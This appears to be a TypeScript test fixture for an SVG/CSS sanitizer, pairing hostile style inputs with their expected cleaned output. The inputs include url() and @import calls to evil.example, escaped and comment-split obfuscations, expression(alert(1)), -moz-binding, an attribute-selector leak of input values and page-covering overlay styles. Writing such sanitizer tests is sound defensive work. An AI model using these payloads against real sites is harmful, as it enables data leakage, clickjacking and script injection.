import { type Attack, refused } from './attack.ts'

/** Styles that could load, run or hide something. */
export const styleAttacks: readonly Attack[] = [
  ['style with url', '<rect style="background:url(https://evil.example);fill:url(//evil.example)"/>', '<rect/>'],
  ['style with a comment in url', '<rect style="fill:u/**/rl(https://evil.example)"/>', '<rect/>'],
  [
    'style with an escaped url',
    '<rect style="fill:\\75rl(https://evil.example);stroke:\\000075\\000072\\00006c(x)"/>',
    '<rect/>',
  ],
  [
    'style with image-set',
    `<rect style="fill:image-set('https://evil.example/x' 1x);mask:-webkit-image-set(x)"/>`,
    '<rect/>',
  ],
  ['style with expression', '<rect style="width:expression(alert(1));fill:expression(alert(1))"/>', '<rect/>'],
  [
    'style with a binding',
    '<rect style="-moz-binding:url(https://evil.example/x.xml#x);behavior:url(x.htc)"/>',
    '<rect/>',
  ],
  ['style with a variable', '<rect style="--x:url(https://evil.example);fill:var(--x);stroke:attr(href)"/>', '<rect/>'],
  [
    'style that covers the page',
    '<rect style="position:fixed;top:0;left:0;width:100vw;z-index:9999;fill:red"/>',
    '<rect style="fill:red"/>',
  ],
  ['style that ends too early', '<rect style="fill:red}body{display:none"/>', '<rect/>'],
  [
    'style with quotes that do not end',
    `<text style="font-family:'a;fill:red">t</text>`,
    '<text style="fill:red">t</text>',
  ],
  ['sheet with import', "<style>@import 'https://evil.example/x.css';@import url(//evil.example);</style>", '<style/>'],
  ['sheet with an escaped import', "<style>@\\69mport 'https://evil.example/x.css';</style>", '<style/>'],
  [
    'sheet with a font',
    '<style>@font-face{font-family:x;src:url(https://evil.example/f)}.a{fill:red}</style>',
    '<style>svg .a{fill:red}</style>',
  ],
  [
    'sheet with a medium',
    '<style>@media screen{a{fill:url(x)}} .b{fill:blue}</style>',
    '<style>svg .b{fill:blue}</style>',
  ],
  ['sheet with a namespace', '<style>@namespace x url(https://evil.example);x|a{fill:red}</style>', '<style/>'],
  [
    'sheet that looks at attributes',
    '<style>input[value^=a]{fill:url(https://evil.example/a)} a[href]{fill:red}</style>',
    '<style/>',
  ],
  [
    'sheet for the page around',
    '<style>body,.modal{display:none} #logout{visibility:hidden}</style>',
    '<style>svg body,svg .modal{display:none}\nsvg #logout{visibility:hidden}</style>',
  ],
  ['sheet with the host', '<style>:host{display:none} :root{color:red} ::slotted(a){fill:red}</style>', '<style/>'],
  ['sheet with keyframes', '<style>@keyframes x{from{fill:url(x)}to{fill:red}}</style>', '<style/>'],
  ['sheet in comments', '<style>/*</style>*/ a{fill:red} /*<script>*/ b{fill:blue}</style>', refused],
  ['sheet cut by a comment', '<style>a{fi/**/ll:u/**/rl(x);stroke:red}</style>', '<style>svg a{stroke:red}</style>'],
  [
    'sheet for another language',
    `<style type="text/javascript" media="x">document.ids.x.fill='red'</style>`,
    '<style/>',
  ],
]
